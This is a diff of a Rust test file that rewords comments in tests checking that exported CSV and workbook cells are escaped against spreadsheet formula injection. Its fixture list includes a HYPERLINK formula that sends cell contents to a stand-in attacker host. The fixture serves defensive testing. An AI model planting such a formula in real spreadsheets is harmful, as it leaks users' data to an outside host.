@@ -1,4 +1,4 @@
-//! Cells that others wrote: formulas, quotes, line ends, long ones.
+//! Cells with other people's text: formulas, quotes, line ends, long ones.
 
 use std::fs;
 
@@ -10,7 +10,7 @@ use crate::support::{
     TestStore, create_user_with_own_role, rest_customer, rest_page, sample_stores,
 };
 
-/// What a spreadsheet would run, or take for something else.
+/// Text that a spreadsheet would evaluate or misinterpret.
 const FORMULAS: [&str; 9] = [
     r#"=HYPERLINK("https://evil.example/?"&A1,"look")"#,
     "+1+1",
@@ -23,7 +23,7 @@ const FORMULAS: [&str; 9] = [
     "+49 170 1234567",
 ];
 
-/// What is text and looks like it, whatever it holds.
+/// Text that resembles it but is harmless.
 const TEXTS: [&str; 7] = [
     "says \"no\", twice\nand then\r\nnothing",
     "a, b; c\td",
@@ -34,8 +34,8 @@ const TEXTS: [&str; 7] = [
     "<b>&amp;</b> _x000D_",
 ];
 
-/// A shop in which all of that was typed: as reasons, as names, and as an
-/// address of the longest kind.
+/// A store where all of that was entered: as reasons, as names, and as an
+/// address of maximal length.
 fn shop() -> TestStore {
     let store = TestStore::new();
     for (kind, data) in sample_stores() {
@@ -54,7 +54,7 @@ fn shop() -> TestStore {
         let ran = store.run_with(reason.as_bytes(), &args);
         assert_eq!(ran.code, 5, "{ran:?}");
     }
-    // An admin user and a role can be called so as well.
+    // Admin users and roles can also have such names.
     let boss = create_user_with_own_role(&store, "@boss", &[]);
     store
         .run_as(&boss, &["login", "1", "-o", "json"])
@@ -66,7 +66,7 @@ fn shop() -> TestStore {
     store
 }
 
-/// 254 characters, and a formula from the first on.
+/// 254 characters that begin with a formula.
 fn longest() -> String {
     let domain = format!(
         "{}.{}.{}.example",
@@ -79,8 +79,8 @@ fn longest() -> String {
     email
 }
 
-/// OWASP, "CSV injection": what begins so after white space and what shows as
-/// nothing, but for plain numbers.
+/// OWASP, "CSV injection": text that begins this way after white space and
+/// invisible characters, except plain numbers.
 fn runs(text: &str) -> bool {
     let begins =
         text.trim_start_matches(|c: char| c.is_whitespace() || c.is_control() || c == '\u{200b}');
@@ -99,7 +99,7 @@ fn rows(text: &str) -> Vec<Vec<String>> {
     reader.records().map(row).collect()
 }
 
-/// Every cell is what the JSON says; only what would run has a `'` before it.
+/// Every cell equals the JSON value; only dangerous ones have a `'` in front.
 #[test]
 fn formulas_are_escaped_in_csv_and_the_manifest_says_so() {
     let store = shop();
@@ -127,7 +127,8 @@ fn formulas_are_escaped_in_csv_and_the_manifest_says_so() {
                 }
             }
         }
-        // The reasons; the address, twice, and its reason; the boss and the role.
+        // The reasons; the address, twice, and its reason; the boss and the
+        // role.
         let expected = if raw.is_empty() {
             FORMULAS.len() + 5
         } else {
@@ -135,13 +136,13 @@ fn formulas_are_escaped_in_csv_and_the_manifest_says_so() {
         };
         assert_eq!(guarded, expected);
     }
-    // Lines of JSON carry everything faithfully, and say that they do.
+    // JSON Lines carry everything unchanged, and say so.
     export(&store, "all.jsonl", &["--not-action-group", "log"]);
     assert_eq!(lines(&text(&store, "all.jsonl")), log);
     assert_eq!(manifest(&store, "all.jsonl")["formula_guard"], false);
 }
 
-/// `tests/foreign/xlsx.py` reads them with somebody else's library.
+/// `tests/foreign/xlsx.py` reads them with a third-party library.
 #[test]
 fn formulas_are_escaped_in_workbooks() {
     let store = shop();
@@ -160,7 +161,7 @@ fn formulas_are_escaped_in_workbooks() {
     }
 }
 
-/// E-mail addresses are never cut.
+/// Email addresses are never cut.
 #[test]
 fn the_longest_address_is_never_cut() {
     let store = shop();
